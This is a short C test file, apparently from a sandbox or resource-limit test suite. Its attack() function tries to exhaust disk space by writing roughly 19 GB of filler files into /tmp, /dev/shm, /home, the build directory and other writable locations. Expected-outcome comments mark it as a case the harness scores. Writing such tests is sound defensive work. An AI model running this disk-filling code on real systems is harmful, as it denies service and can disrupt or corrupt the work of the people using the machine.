/* Attack: fills the disk, wherever it may write.
 * Verdict: fails
 * Ungated: fails
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

static void attack(void)
{
    static const char *const places[] = {"/tmp", ".", "build", "/var/tmp", "/dev/shm", "/home"};
    static char block[1 << 16];
    char path[128];

    for (int i = 0; i < 600; i++) {
        snprintf(path, sizeof path, "%s/filler-%d", places[i % 6], i);
        int file = open(path, O_CREAT | O_WRONLY, 0600);
        for (int k = 0; k < 512 && file >= 0; k++)
            if (write(file, block, sizeof block) <= 0)
                break;
        if (file >= 0)
            close(file);
    }
}
